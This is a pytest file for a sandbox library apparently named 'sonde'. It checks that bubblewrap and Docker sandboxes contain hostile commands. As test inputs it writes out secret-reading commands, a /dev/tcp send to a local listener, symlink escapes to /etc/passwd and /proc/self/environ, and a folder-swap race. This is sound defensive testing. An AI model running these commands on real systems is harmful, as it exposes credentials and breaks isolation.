"""Commands that mean harm, and what is left of them on the machine: nothing, in every kind of sandbox.

The list is `sonde.testing.attacks`; whatever a result says, the machine itself is asked afterwards (`sonde.testing.hostile`):
did a listener get anything, is a canary changed, has a secret come out, does a process, a file, a mount or a descriptor
remain.
"""

import asyncio
import contextlib
import dataclasses
import functools
import os
import pathlib
import secrets
import shlex
import shutil
import socket
from typing import Any, cast

import pytest
import pytest_asyncio

from sonde.agents.sandbox import base, choosing
from sonde.core import errors
from sonde.testing import attacks, hostile
from sonde.testing import stage as testing_stage

NO_BUBBLEWRAP = pytest.mark.skipif(
    shutil.which("bwrap") is None, reason="bubblewrap is not installed: apt install bubblewrap"
)
KINDS = [
    pytest.param("bubblewrap", marks=NO_BUBBLEWRAP),
    pytest.param("docker", marks=[pytest.mark.slow, pytest.mark.docker]),
]
ATTACKS = attacks.ATTACKS
SHORT = dataclasses.replace(hostile.LIMITS, seconds=0.7)


@pytest.fixture(scope="module")
def machine(tmp_path_factory):
    # A folder of the machine's own temporary folder, as another program would have it.
    with hostile.Machine(tmp_path_factory.mktemp("hostile")) as made:
        yield made


@pytest.fixture(scope="module", params=KINDS)
def kind(request):
    return request.param


@pytest.fixture(scope="module")
def opened(kind, request):
    """Opens a sandbox of the kind, with limits."""
    if kind == "docker":
        return functools.partial(choosing.open_sandbox, kind, image=request.getfixturevalue("docker_engine").image)
    return functools.partial(choosing.open_sandbox, kind)


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def sandbox(opened):
    """One for all: what an attack breaks in it, the next one finds broken."""
    async with opened(limits=hostile.LIMITS) as made:
        yield made


@pytest.mark.asyncio(loop_scope="module")
@pytest.mark.parametrize("attack", ATTACKS, ids=[f"{one.kind}-{n}" for n, one in enumerate(ATTACKS)])
async def test_a_hostile_command_is_contained(attack, machine, sandbox, kind):
    await hostile.contained(sandbox, attack, machine, container=kind == "docker")


def test_there_are_attacks_of_every_kind():
    assert len(ATTACKS) >= 260
    assert len({attack.command for attack in ATTACKS}) == len(ATTACKS)
    assert sum(bool(attack.in_container) for attack in ATTACKS) < 20


def test_the_machine_notices_what_it_should(tmp_path):
    """The checks themselves: each must fail when the harm is done."""
    with hostile.Machine(tmp_path) as other:
        other.check("no-such-mark")
        with socket.create_connection(("127.0.0.1", other.words["PORT"])), pytest.raises(testing_stage.Broken):
            other.check("no-such-mark")
        other.canary.write_text("changed")
        with pytest.raises(testing_stage.Broken, match="contents"):
            other.check("no-such-mark")
        other.canary.write_text(other.secret)
        other.check("no-such-mark")
        own = pathlib.Path("/proc/self/cmdline").read_bytes().decode().split("\0")[0]
        assert os.getpid() in hostile.processes_with(own)


class Unwalled:
    """A sandbox that is none, to see that the checks find it out."""

    def __init__(self, folder):
        self.folder = folder

    async def run(self, command, *, limits=None):
        made = await asyncio.create_subprocess_exec(
            "bash", "-c", command, cwd=self.folder, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT
        )
        said, _ = await made.communicate()
        return base.Result(base.harmless(said), made.returncode, False, False, 0.1)


@pytest.mark.parametrize(
    "command", ["cat @CANARY@", "env | grep @SECRET@", "ls -d /proc/@PID@", "echo harm > /dev/tcp/127.0.0.1/@PORT@"]
)
async def test_no_sandbox_at_all_is_found_out(command, tmp_path):
    attack = next(one for one in ATTACKS if f"{{ {command}\n}}" in one.command)
    (tmp_path / "work").mkdir()
    with hostile.Machine(tmp_path) as other, pytest.raises(testing_stage.Broken):
        await hostile.contained(cast(Any, Unwalled(tmp_path / "work")), attack, other)


def python(code):
    return f"python -c {shlex.quote(code)}"


LINKS = [
    ("ln -s /etc/passwd trap", "trap"),
    ("ln -s @CANARY@ trap", "trap"),
    ("ln -s @FOLDER@ trap", "trap/@CANARYNAME@"),
    ("ln -s / trap", "trap@CANARY@"),
    ("ln -s / trap", "trap/etc/passwd"),
    ("ln -s .. trap", "trap/etc/passwd"),
    ("ln -s /proc/self/root trap", "trap/etc/passwd"),
    ("ln -s /proc/self/environ trap", "trap"),
    ("ln -s /proc trap", "trap/self/environ"),
    ("ln -s trap trap", "trap"),
    ("ln -s b a; ln -s a b", "a/x"),
    ("mkdir d; ln -s ../../.. d/up", "d/up/etc/passwd"),
    ("ln -s /dev/zero trap", "trap"),
    ("mkfifo trap", "trap"),
    ("mkfifo trap", "trap/x"),
    ("mkdir trap", "trap"),
    (python("import socket; socket.socket(socket.AF_UNIX).bind('trap')"), "trap"),
    ("ln -s /workspace trap", "trap/trap"),
]


def marked(command, machine, mark):
    """A command whose processes all carry a mark."""
    return f"export HARM={mark}\n{machine.armed(command, mark)}"


@pytest.mark.parametrize(("command", "path"), LINKS, ids=[f"link-{n}" for n in range(len(LINKS))])
async def test_no_link_or_device_leads_out_of_the_working_folder(command, path, machine, opened):
    mark = f"harm{secrets.token_hex(6)}"
    async with opened(limits=hostile.LIMITS) as sandbox:
        await sandbox.run(marked(command, machine, mark))
        path = machine.armed(path, mark)
        with pytest.raises(errors.SandboxError):
            await sandbox.get(path)
        # Writing either is refused too or replaces the link itself.
        with contextlib.suppress(errors.SandboxError):
            await sandbox.put({path: "harm"})
            assert await sandbox.get(path) == b"harm"
    machine.check(mark)


async def test_a_file_with_a_hole_cannot_be_used_to_fill_memory(opened):
    async with opened(limits=hostile.LIMITS) as sandbox:
        await sandbox.run("truncate -s 8M hole")
        assert len(await sandbox.get("hole")) == 8 * 2**20
        await sandbox.run("truncate -s 1T hole", limits=base.Limits(disk=2**50))
        with pytest.raises(errors.SandboxError, match="at most"):
            await sandbox.get("hole")


async def test_swapping_folders_and_links_while_files_are_written_and_read_leads_nowhere(machine, opened):
    mark = f"harm{secrets.token_hex(6)}"
    swap = "mkdir real; while :; do mv real d; mv d real; ln -s @FOLDER@ d; rm d; done 2> /dev/null"
    async with opened(limits=hostile.LIMITS) as sandbox:
        running = asyncio.ensure_future(sandbox.run(marked(swap, machine, mark), limits=SHORT))
        got = set()
        while not running.done():
            with contextlib.suppress(errors.SandboxError):
                await sandbox.put({f"d/{mark}": "harm"})
            with contextlib.suppress(errors.SandboxError):
                got.add(await sandbox.get(f"d/{machine.canary.name}"))
        assert got == set()
        assert (await running).timed_out
    machine.check(mark)


async def test_a_server_inside_cannot_be_reached_from_outside(opened):
    async with opened(limits=hostile.LIMITS) as sandbox:
        with socket.create_server(("127.0.0.1", 0)) as probe:
            port = probe.getsockname()[1]
        code = python(
            f"import socket; s = socket.create_server(('0.0.0.0', {port})); open('up', 'w'); s.settimeout(1); s.accept()"
        )
        running = asyncio.ensure_future(sandbox.run(code))
        while not running.done():
            with contextlib.suppress(errors.SandboxError):
                await sandbox.get("up")
                break
        for place in ("127.0.0.1", hostile.own_address()):
            with pytest.raises(ConnectionRefusedError):
                socket.create_connection((place, port), timeout=5)
        assert "timed out" in (await running).output


async def test_many_hostile_commands_at_once_are_contained(machine, opened):
    mark = f"harm{secrets.token_hex(6)}"
    chosen = [attack for attack in ATTACKS if attack.kind in ("fork bomb", "time")][::4]

    async def attack(one):
        async with opened(limits=SHORT) as sandbox:
            await sandbox.run(marked(one.command, machine, mark))

    await asyncio.gather(*map(attack, chosen))
    machine.check(mark)
